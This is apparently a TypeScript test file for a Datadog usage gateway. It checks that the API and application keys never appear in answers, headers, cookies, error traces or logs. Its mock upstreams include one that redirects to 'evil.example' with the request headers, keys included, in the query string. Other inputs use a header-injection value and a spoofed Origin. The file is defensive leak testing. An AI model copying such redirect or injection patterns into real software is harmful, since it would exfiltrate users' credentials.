import { gateway, json, keys, own, stopAll, type Answer, type Datadog } from "./gateway";

afterEach(stopAll);
const secrets = [keys.apiKey, keys.applicationKey];
const path = "/api/v1/usage/summary?start_month=2026-10";

/** What Datadog may do to a question, the keys in its hands: it repeats them wherever it can. */
const repeating = (init: RequestInit): string => JSON.stringify(init.headers);
const datadogs: readonly Datadog[] = [
  () => Promise.resolve(json({ usage: [] })),
  (_, init) => Promise.resolve(json({ errors: [repeating(init)] }, 403, { "x-echo": repeating(init), "set-cookie": `k=${keys.apiKey}` })), // prettier-ignore
  (_, init) => Promise.resolve(json({ errors: [{ title: repeating(init), detail: repeating(init) }] }, 400)),
  (_, init) => Promise.resolve(json({ errors: repeating(init), message: repeating(init) }, 500)),
  (_, init) => Promise.resolve(new Response(repeating(init), { status: 500 })),
  (_, init) => Promise.resolve(new Response(repeating(init), { headers: { "content-type": "text/html" } })),
  (_, init) => Promise.resolve(new Response(null, { status: 307, headers: { location: `https://evil.example/?${encodeURIComponent(repeating(init))}` } })), // prettier-ignore
  (_, init) => Promise.reject(new Error(`connect ECONNREFUSED with ${repeating(init)}`)),
  (address, init) => Promise.reject(Object.assign(new TypeError("fetch failed"), { cause: { address, init } })),
  (_, init) =>
    Promise.resolve(
      new Response(
        new ReadableStream({
          start(controller) {
            controller.enqueue(new TextEncoder().encode('{"usage":['));
            setImmediate(() => controller.error(new Error(`reset: ${repeating(init)}`)));
          },
        }),
        { headers: { "content-type": "application/json" } },
      ),
    ),
  (_, { signal }) => new Promise((__, failed) => signal?.addEventListener("abort", () => failed(new Error(keys.apiKey)))),
]; // prettier-ignore

const everything = (answers: readonly (Answer | string)[]): string =>
  answers
    .map((answer) => (typeof answer === "string" ? answer : `${JSON.stringify(answer.headers)} ${answer.text}`))
    .join("\n");
/** In the ways in which text is written down. */
const spellings = (secret: string): string[] => [
  secret,
  encodeURIComponent(secret),
  Buffer.from(secret).toString("base64").slice(0, -4),
  Buffer.from(secret).toString("hex"),
];
const found = (text: string): string[] => [
  ...new Set(secrets.flatMap(spellings).filter((secret) => text.includes(secret))),
];

test.each(["session", "environment"] as const)(
  "keys of the %s are in no answer, header, cookie or log, whatever happens",
  async (from) => {
    let next: Datadog = () => Promise.reject(new Error("not asked"));
    let reached = 0;
    const { ask, connect, logged } = await gateway(
      { settings: from === "environment" ? { keys } : {}, upstreamTimeout: 100 },
      (address, init) => {
        reached++;
        expect(repeating(init)).toContain(keys.apiKey);
        return next(address, init);
      },
    );
    const session = from === "session" ? await connect() : { answer: "", cookie: "", headers: own };
    const answers: (Answer | string)[] = [session.answer, session.cookie];
    const { headers } = session;
    const tell = async (...asking: Parameters<typeof ask>): Promise<void> => {
      answers.push(await ask(...asking).catch((error: Error) => `${error.stack} ${JSON.stringify(error)}`));
    };
    for (const datadog of datadogs) {
      next = datadog;
      await tell(path, { headers });
    }
    expect(reached).toBe(datadogs.length);
    await tell("/gateway/session", { headers });
    await tell("/gateway/health", { headers });
    await tell("/gateway/none", { headers });
    await tell("/%", { headers });
    await tell(`${path}&api_key=${keys.apiKey}&application_key=${keys.applicationKey}`, { headers });
    await tell(`${path}&view=${keys.apiKey}%0a`, { headers });
    await tell(path, { headers: { ...headers, Origin: "https://evil.example" } });
    await tell(path, { headers: { ...headers, "X-Datadog-Site": "us5.datadoghq.com" } });
    const json = { ...headers, "Content-Type": "application/json" };
    await tell("/gateway/session", { method: "POST", headers: json, body: `{"apiKey":"${keys.apiKey}",` });
    await tell("/gateway/session", { method: "POST", headers: json, body: JSON.stringify({ ...keys, site: keys.apiKey }) }); // prettier-ignore
    await tell("/gateway/session", { method: "POST", headers: json, body: JSON.stringify({ ...keys, apiKey: ` ${keys.apiKey} x` }) }); // prettier-ignore
    await tell("/gateway/session", { method: "POST", headers: json, body: JSON.stringify({ ...keys, more: "x".repeat(5_000) }) }); // prettier-ignore
    await tell("/gateway/session", { method: "POST", headers: { ...headers, "Content-Type": keys.apiKey }, body: keys.apiKey }); // prettier-ignore
    await tell("/gateway/session", { method: "DELETE", headers });
    await tell("/gateway/session", { headers });
    expect(answers.length).toBeGreaterThan(datadogs.length + 15);
    expect(found(everything(answers))).toEqual([]);
    const log = logged.join("");
    expect(found(log)).toEqual([]);
    expect([log.includes("2026-10"), log.includes("dd_billing_session")]).toEqual([false, false]);
    expect(logged.length).toBeGreaterThan(answers.length);
  },
);

test("the search finds a key where there is one", () => {
  expect(found(`x${keys.apiKey}y`)).toEqual([keys.apiKey]);
  expect(found(Buffer.from(`{"key":"${keys.apiKey}"}`).toString("hex"))).toHaveLength(1);
});

test("each log line of a request has its id, its route and what came of it", async () => {
  const { ask, logged } = await gateway({ settings: { keys } }, () => Promise.resolve(json({ usage: [] })));
  const { headers } = await ask(path);
  const lines = logged.map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines.find(({ msg }) => msg === "answered")).toMatchObject({
    level: 30,
    reqId: headers["x-request-id"],
    method: "GET",
    route: "/api/v1/usage/summary",
    status: 200,
  });
});
